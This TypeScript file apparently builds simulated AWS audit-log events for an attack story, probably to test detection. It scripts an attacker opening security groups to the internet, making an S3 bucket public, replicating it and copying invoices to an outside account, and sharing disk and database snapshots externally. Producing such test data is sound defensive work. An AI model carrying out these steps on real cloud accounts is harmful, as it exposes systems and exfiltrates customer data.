import { backdoor } from './attack-takeover';
import {
  authorizeIngress,
  authorizeIngressFlat,
  bucketCall,
  createSecurityGroup,
  read,
  revokeDefaultEgress,
} from './calls';
import { ADDRESS, HOME_REGION, PRODUCTION, SECOND_REGION, STRANGER } from './cast';
import { resourceId } from './random';
import { BUCKET, bucketArn, NETWORK } from './resources';
import type { Story } from './story';

const STRANGER_BUCKET = 'backup-mirror-7f31';
const S3_XMLNS = 'http://s3.amazonaws.com/doc/2006-03-01/';
const GROUPS_WALKED = 8;

export function exposure(story: Story): void {
  story.chapter(
    {
      id: 'doors-opened',
      kind: 'attack',
      what: `Makes a security group, opens SSH to 0.0.0.0/0 in it, takes away its outward rule and puts it on a web server; widens a rule of the web group from the office to ::/0, on port 3389; opens MySQL of the database group to 0.0.0.0/0. Then a script lets the attacker's own address into ${GROUPS_WALKED} more groups.`,
      says: `Three openings to the world in the three forms in which EC2 records them: \`ipPermissions\`, \`ModifySecurityGroupRulesRequest\`, flat. The first follows the making of the group by seconds, and an instance gets the group soon after. Many changes of security groups by somebody who never made any; an outside address let in.`,
    },
    (scene) => {
      const { vpc, webGroup, databaseGroup } = NETWORK[HOME_REGION];
      const maintenance = resourceId('sg', 'tmp-maintenance');
      scene
        .at('18 02:14:05')
        .call(backdoor, HOME_REGION, read('ec2', 'DescribeSecurityGroups', { securityGroupSet: {}, filterSet: {} }));
      scene.wait(41).call(backdoor, HOME_REGION, createSecurityGroup(maintenance, 'tmp-maintenance', 'temporary', vpc));
      scene
        .wait(17)
        .call(backdoor, HOME_REGION, authorizeIngress(PRODUCTION, maintenance, [{ port: 22, cidrIpv4: '0.0.0.0/0' }]));
      scene.wait(14).call(backdoor, HOME_REGION, revokeDefaultEgress(maintenance));
      scene.wait(40).call(backdoor, HOME_REGION, {
        service: 'ec2',
        name: 'ModifyInstanceAttribute',
        parameters: {
          instanceId: resourceId('i', 'web 1'),
          groupSet: { items: [{ groupId: webGroup }, { groupId: maintenance }] },
        },
        response: (requestId) => ({ requestId, _return: true }),
      });
      scene.wait(66).call(backdoor, HOME_REGION, {
        service: 'ec2',
        name: 'ModifySecurityGroupRules',
        parameters: {
          ModifySecurityGroupRulesRequest: {
            GroupId: webGroup,
            SecurityGroupRule: {
              tag: 1,
              SecurityGroupRuleId: resourceId('sgr', `${webGroup} office`),
              SecurityGroupRule: {
                IpProtocol: 'tcp',
                FromPort: 3389,
                ToPort: 3389,
                CidrIpv6: '::/0',
                Description: 'vpn',
              },
            },
          },
        },
        response: (requestId) => ({
          ModifySecurityGroupRulesResponse: {
            xmlns: 'http://ec2.amazonaws.com/doc/2016-11-15/',
            requestId,
            return: true,
          },
        }),
      });
      scene.wait(52).call(backdoor, HOME_REGION, authorizeIngressFlat(PRODUCTION, databaseGroup, 3306, '0.0.0.0/0'));
      scene.wait(31);
      for (let index = 0; index < GROUPS_WALKED; index += 1) {
        const opening = { port: 22, cidrIpv4: `${ADDRESS.attackerSecond}/32` };
        const groupId = resourceId('sg', `fleet ${index}`);
        scene.wait(2, 5).call(backdoor, HOME_REGION, authorizeIngress(PRODUCTION, groupId, [opening]));
      }
    },
  );

  story.chapter(
    {
      id: 'bucket-published',
      kind: 'attack',
      what: `Looks at the access lists of all ${Object.keys(BUCKET).length} buckets. Of \`${BUCKET.exports}\` it takes away the block of public access, lets everybody read it by its policy, speeds up transfers, and replicates it to a bucket of account ${STRANGER}.`,
      says: `One caller looks at many buckets; the block removed, then a policy for everybody on the same bucket; transfer acceleration and replication to an account outside.`,
    },
    (scene) => {
      const bucket = BUCKET.exports;
      scene.at('18 02:38:20').call(backdoor, HOME_REGION, read('s3', 'ListBuckets', { Host: 's3.amazonaws.com' }));
      for (const each of Object.values(BUCKET)) {
        // The log archive is the other account's: its policy lets nobody look.
        const why = 'because no resource-based policy allows the s3:GetBucketAcl action';
        const refused = each === BUCKET.logs ? { denied: { on: `"${bucketArn(each)}"`, why } } : {};
        scene.wait(1, 3).call(backdoor, HOME_REGION, bucketCall('GetBucketAcl', each, HOME_REGION, 'acl', refused));
      }
      for (const [name, subresource] of [
        ['GetBucketPublicAccessBlock', 'publicAccessBlock'],
        ['GetBucketPolicyStatus', 'policyStatus'],
        ['GetBucketVersioning', 'versioning'],
      ] as const) {
        scene.wait(3, 8).call(backdoor, HOME_REGION, bucketCall(name, bucket, HOME_REGION, subresource));
      }
      scene
        .wait(38)
        .call(
          backdoor,
          HOME_REGION,
          bucketCall('DeleteBucketPublicAccessBlock', bucket, HOME_REGION, 'publicAccessBlock'),
        );
      const everybodyReads = {
        Version: '2012-10-17',
        Statement: [
          {
            Sid: 'assets',
            Effect: 'Allow',
            Principal: '*',
            Action: ['s3:GetObject', 's3:ListBucket'],
            Resource: [bucketArn(bucket), `${bucketArn(bucket)}/*`],
          },
        ],
      };
      scene.wait(24).call(
        backdoor,
        HOME_REGION,
        bucketCall('PutBucketPolicy', bucket, HOME_REGION, 'policy', {
          parameters: { bucketPolicy: everybodyReads },
        }),
      );
      scene.wait(95).call(
        backdoor,
        HOME_REGION,
        bucketCall('PutAccelerateConfiguration', bucket, HOME_REGION, 'accelerate', {
          parameters: { AccelerateConfiguration: { Status: 'Enabled', xmlns: S3_XMLNS } },
        }),
      );
      scene.wait(80).call(
        backdoor,
        HOME_REGION,
        bucketCall('PutBucketReplication', bucket, HOME_REGION, 'replication', {
          parameters: {
            ReplicationConfiguration: {
              xmlns: S3_XMLNS,
              Role: `arn:aws:iam::${PRODUCTION}:role/s3-replication`,
              // S3 writes a single element as an object, several as a list.
              Rule: {
                ID: 'copy',
                Status: 'Enabled',
                Priority: 1,
                Filter: { Prefix: '' },
                DeleteMarkerReplication: { Status: 'Disabled' },
                Destination: { Bucket: bucketArn(STRANGER_BUCKET), Account: STRANGER },
              },
            },
          },
        }),
      );
    },
  );

  story.chapter(
    {
      id: 'files-copied',
      kind: 'attack',
      what: `In ${SECOND_REGION}, DataSync: the invoices' bucket and one of the attacker's as locations, a task between them, started.`,
      says: `The first use of DataSync in this account, and by the same caller.`,
    },
    (scene) => {
      const arn = (kind: string): string =>
        `arn:aws:datasync:${SECOND_REGION}:${PRODUCTION}:${kind}/${kind === 'location' ? 'loc' : 'task'}-0${scene.random.hex(16)}`;
      const bucketAccessRoleArn = `arn:aws:iam::${PRODUCTION}:role/s3-replication`;
      scene.at('18 02:51:37');
      const locations = [BUCKET.invoices, STRANGER_BUCKET].map((bucket) => {
        const locationArn = arn('location');
        scene.wait(8, 20).call(backdoor, SECOND_REGION, {
          service: 'datasync',
          name: 'CreateLocationS3',
          parameters: { s3BucketArn: bucketArn(bucket), subdirectory: '/', s3Config: { bucketAccessRoleArn } },
          response: { locationArn },
        });
        return locationArn;
      });
      const [sourceLocationArn = '', destinationLocationArn = ''] = locations;
      const taskArn = arn('task');
      scene.wait(25).call(backdoor, SECOND_REGION, {
        service: 'datasync',
        name: 'CreateTask',
        parameters: { sourceLocationArn, destinationLocationArn, name: 'mirror' },
        response: { taskArn },
      });
      scene.wait(12).call(backdoor, SECOND_REGION, {
        service: 'datasync',
        name: 'StartTaskExecution',
        parameters: { taskArn },
        response: { taskExecutionArn: `${taskArn}/execution/exec-0${scene.random.hex(16)}` },
      });
    },
  );

  story.chapter(
    {
      id: 'disks-shared',
      kind: 'attack',
      what: `Makes a snapshot of the order database's disk and one of the invoice database and shares both with account ${STRANGER}, which makes a volume of the first.`,
      says: `Snapshots shared with an account outside, twice by one caller: a pattern of export. (The record of the volume has no caller type at all.)`,
    },
    (scene) => {
      const volumeId = resourceId('vol', 'order database');
      const snapshotId = resourceId('snap', 'order database, stolen');
      scene
        .at('18 03:05:31')
        .call(backdoor, HOME_REGION, read('ec2', 'DescribeVolumes', { volumeSet: {}, filterSet: {} }));
      scene.wait(48).call(backdoor, HOME_REGION, {
        service: 'ec2',
        name: 'CreateSnapshot',
        parameters: { volumeId, description: 'tmp' },
        response: (requestId) => ({
          requestId,
          snapshotId,
          volumeId,
          status: 'pending',
          startTime: scene.nowMs,
          ownerId: PRODUCTION,
          volumeSize: '200',
          description: 'tmp',
          encrypted: false,
          tagSet: {},
        }),
      });
      scene.wait(185).call(backdoor, HOME_REGION, {
        service: 'ec2',
        name: 'ModifySnapshotAttribute',
        parameters: {
          snapshotId,
          createVolumePermission: { add: { items: [{ userId: STRANGER }] } },
          attributeType: 'CREATE_VOLUME_PERMISSION',
        },
        response: (requestId) => ({ requestId, _return: true }),
      });
      const database = 'invoices-prod';
      const stolen = 'invoices-prod-tmp';
      scene.wait(66).call(backdoor, SECOND_REGION, {
        service: 'rds',
        name: 'CreateDBSnapshot',
        parameters: { dBSnapshotIdentifier: stolen, dBInstanceIdentifier: database },
        response: {
          dBSnapshotIdentifier: stolen,
          dBInstanceIdentifier: database,
          engine: 'postgres',
          status: 'creating',
          snapshotType: 'manual',
          encrypted: false,
          dBSnapshotArn: `arn:aws:rds:${SECOND_REGION}:${PRODUCTION}:snapshot:${stolen}`,
        },
      });
      scene.wait(240).call(backdoor, SECOND_REGION, {
        service: 'rds',
        name: 'ModifyDBSnapshotAttribute',
        parameters: { dBSnapshotIdentifier: stolen, attributeName: 'restore', valuesToAdd: [STRANGER] },
        response: {
          dBSnapshotIdentifier: stolen,
          dBSnapshotAttributes: [{ attributeName: 'restore', attributeValues: [STRANGER] }],
        },
      });
      scene.wait(420).serviceEvent(PRODUCTION, HOME_REGION, {
        service: 'ec2',
        name: 'SharedSnapshotVolumeCreated',
        details: { snapshotId },
      });
    },
  );
}
